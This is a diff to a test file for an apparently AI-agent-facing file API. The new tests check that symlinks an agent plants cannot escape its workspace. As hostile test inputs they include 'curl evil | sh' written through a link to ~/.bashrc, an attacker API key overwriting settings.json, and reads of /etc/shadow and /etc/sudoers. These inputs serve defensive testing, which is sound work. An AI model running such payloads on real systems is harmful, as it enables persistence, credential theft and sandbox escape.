@@ -124,10 +124,14 @@ describe('attacks: the data dir, credentials and deny_paths stay out of reach', 
 
   it('refuses to overwrite <dataDir>/settings.json, directly and through a link, leaving it unchanged', async () => {
     await symlink(join(dataDir, 'settings.json'), join(workspace, 'settings-link.json'));
-    for (const path of [join(dataDir, 'settings.json'), join(workspace, 'settings-link.json')]) {
+    const refusals = [
+      [join(dataDir, 'settings.json'), 'path_forbidden'],
+      [join(workspace, 'settings-link.json'), 'path_link_outside'],
+    ];
+    for (const [path = '', code] of refusals) {
       const response = await upload(path, '{"llm":{"api_key":"attacker"}}');
       expect(response.statusCode).toBe(403);
-      expect(response.json().code).toBe('path_forbidden');
+      expect(response.json().code).toBe(code);
     }
     expect(await readFile(join(dataDir, 'settings.json'), 'utf8')).toBe('{"llm":null}\n');
     expect((await tree(dataDir)).filter((name) => name.includes('.upload'))).toEqual([]);
@@ -205,6 +209,91 @@ describe('attacks: the data dir, credentials and deny_paths stay out of reach', 
       url: `/api/file/download?path=${encodeURIComponent('/etc/hostname')}`,
     });
     expect(response.statusCode).toBe(401);
+  });
+});
+
+describe('attacks: links the agent plants lead nowhere outside', () => {
+  it('an upload to a name the agent linked to a file outside the workspace (~/.bashrc) leaves the target alone', async () => {
+    const bashrc = join(home, '.bashrc');
+    await writeFile(bashrc, 'export PATH=/usr/bin\n');
+    await symlink(bashrc, join(workspace, 'notes.txt'));
+
+    const response = await upload(join(workspace, 'notes.txt'), 'curl evil | sh\n');
+
+    expect(response.statusCode).toBe(403);
+    expect(response.json().code).toBe('path_link_outside');
+    expect(await readFile(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
+  });
+
+  it('an upload into a folder the agent linked elsewhere creates nothing there', async () => {
+    const elsewhere = join(root, 'elsewhere');
+    await mkdir(elsewhere);
+    await symlink(elsewhere, join(workspace, 'uploads'));
+
+    for (const path of ['uploads/a.txt', 'uploads/new/deeper/b.txt']) {
+      const response = await upload(join(workspace, path), 'person data');
+      expect(response.statusCode).toBe(403);
+      expect(response.json().code).toBe('path_link_outside');
+    }
+    expect(await tree(elsewhere)).toEqual([]);
+  });
+
+  it('a download through a link out of the workspace is refused, even to a readable file', async () => {
+    const outsideFile = join(root, 'outside-secret.txt');
+    await writeFile(outsideFile, 'not for the agent to pick');
+    await symlink(outsideFile, join(workspace, 'picked.txt'));
+
+    const response = await download(join(workspace, 'picked.txt'));
+
+    expect(response.statusCode).toBe(403);
+    expect(response.json().code).toBe('path_link_outside');
+    expect(response.body).not.toContain('not for the agent');
+  });
+
+  it('confines a path to the workspace of any conversation, not only the launch workspace', async () => {
+    const other = join(root, 'other-workspace');
+    await mkdir(other);
+    const created = await app.inject({
+      method: 'POST',
+      url: '/api/conversations',
+      headers: auth,
+      payload: { workspace: { working_dir: other } },
+    });
+    expect(created.statusCode).toBeLessThan(300);
+    const target = join(root, 'other-target.txt');
+    await writeFile(target, 'untouched');
+    await symlink(target, join(other, 'notes.txt'));
+
+    const response = await upload(join(other, 'notes.txt'), 'overwritten');
+
+    expect(response.statusCode).toBe(403);
+    expect(await readFile(target, 'utf8')).toBe('untouched');
+  });
+
+  it('outside every workspace, a link may not leave the folder the person named', async () => {
+    const named = join(root, 'named-folder');
+    await mkdir(named);
+    const target = join(root, 'named-target.txt');
+    await writeFile(target, 'untouched');
+    await symlink(target, join(named, 'notes.txt'));
+    await writeFile(join(named, 'real.txt'), 'inside');
+    await symlink('real.txt', join(named, 'alias.txt'));
+
+    const refused = await upload(join(named, 'notes.txt'), 'overwritten');
+    expect(refused.statusCode).toBe(403);
+    expect(await readFile(target, 'utf8')).toBe('untouched');
+    // A link that stays in the folder is followed.
+    const inside = await download(join(named, 'alias.txt'));
+    expect(inside.statusCode).toBe(200);
+    expect(inside.body).toBe('inside');
+  });
+
+  it('refuses the system secrets the sandbox masks (/etc/shadow) with 403 path_forbidden', async () => {
+    for (const path of ['/etc/shadow', '/etc/gshadow', '/etc/sudoers']) {
+      const response = await download(path);
+      expect(response.statusCode).toBe(403);
+      expect(response.json().code).toBe('path_forbidden');
+    }
   });
 });
 
